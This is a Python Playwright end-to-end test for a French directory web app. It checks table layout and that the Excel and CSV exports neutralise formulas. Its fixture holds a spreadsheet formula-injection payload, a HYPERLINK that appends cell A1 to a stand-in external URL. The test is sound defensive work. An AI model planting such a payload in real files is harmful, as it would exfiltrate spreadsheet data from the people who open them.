"""The directory in a real browser at 1,400 px: every column fits, names in French order,
no Streamlit « Download as CSV » in the table's toolbar, and the app's Excel and CSV
exports of a hostile name carry no live formula."""

from __future__ import annotations

import csv
import io
import itertools

import openpyxl
import pytest
from sqlalchemy import select

from db.engine import unit_of_work
from db.models import Role, Sector, Structure, StructureKind
from tests.e2e.test_candidacy_form import screenshots, sign_in
from tests.e2e.test_sign_in_flow import settled
from tests.factories import make_call, make_edition, make_network, make_user

pytestmark = pytest.mark.e2e

HOSTILE = '=HYPERLINK("http://x.example/?"&A1;"Cliquez ici")'
NAMES = ("Zèbre", "Écoles", "Brie", HOSTILE, "eco", "Bâti'Insert",
         "Association intermédiaire pour l'emploi et la solidarité du Val-d'Oise")
SECTORS = ("Déménagements, livraisons et transports", "Hygiène et propreté", "Espaces verts et extérieurs")
_sirets = itertools.count(31_000_000_000_000)


@pytest.fixture
def lead(server_db):
    with unit_of_work() as session:
        sectors = list(session.scalars(select(Sector).where(Sector.label.in_(SECTORS))))
        for name in NAMES:
            session.add(Structure(siret=str(next(_sirets)), name=name, kind=StructureKind.ETTI,
                                  city="Saint-Ouen-l'Aumône", departement="95", sectors=sectors))
    networks = tuple(make_network(name) for name in ("Réseau Solidarités du Val-d'Oise et du Vexin", "Brie"))
    make_call(make_edition(), networks=networks)
    return make_user(Role.PILOTE, email="pilote.exports@exemple.fr")


def fits(table) -> None:
    """Nothing of the grid is out of sight: it has nothing to scroll sideways."""
    scroll_width, client_width = table.locator(".dvn-scroller").evaluate("el => [el.scrollWidth, el.clientWidth]")
    assert scroll_width <= client_width + 1, (scroll_width, client_width)


def test_directory_fits_at_1400_px_without_streamlit_download_and_exports_inert_text(browser, server, lead):
    from playwright.sync_api import expect

    context, page = sign_in(browser, server, lead, "Tableau de bord")
    shoot = screenshots(page, "exports")
    try:
        page.set_viewport_size({"width": 1400, "height": 900})
        page.goto(f"{server.base_url}/annuaire")
        settled(page, "Annuaire des structures")  # other tests of the session may add structures
        table = page.get_by_test_id("stDataFrame").first
        table.hover()
        page.wait_for_timeout(300)
        shoot("annuaire-1400")

        fits(table)
        # the toolbar shows (search is there) but without Streamlit's CSV download
        toolbar = table.get_by_test_id("stElementToolbar")
        assert toolbar.get_by_role("button", name="Search").count() == 1
        assert toolbar.get_by_role("button", name="Download as CSV").count() == 0

        with page.expect_download() as xlsx_download:
            page.get_by_role("button", name="Télécharger (Excel)").click()
        assert xlsx_download.value.suggested_filename == "annuaire-structures.xlsx"
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx_download.value.path().read_bytes())).active
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True) if row[0].lstrip("'") in NAMES]
        assert names == ["Association intermédiaire pour l'emploi et la solidarité du Val-d'Oise", "Bâti'Insert",
                         "Brie", "eco", "Écoles", "'" + HOSTILE, "Zèbre"]  # punctuation ignored: under H

        with page.expect_download() as csv_download:
            page.get_by_role("button", name="Télécharger (CSV)").click()
        assert csv_download.value.suggested_filename == "annuaire-structures.csv"
        with open(csv_download.value.path(), "rb") as file:
            text = file.read().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        assert [r[0] for r in rows[1:] if r[0].lstrip("'") in NAMES] == names

        # the dashboard: three breakdowns side by side, then every call
        page.goto(f"{server.base_url}/")
        settled(page, "Tableau de bord", "Tous les appels")
        tables = page.get_by_test_id("stDataFrame")
        expect(tables.last.locator(".dvn-scroller")).to_have_count(1)
        assert tables.count() >= 2
        for table in tables.all():
            expect(table.locator(".dvn-scroller")).to_have_count(1)  # drawn
        shoot("tableau-de-bord-1400")
        for table in tables.all():
            fits(table)
    finally:
        context.close()
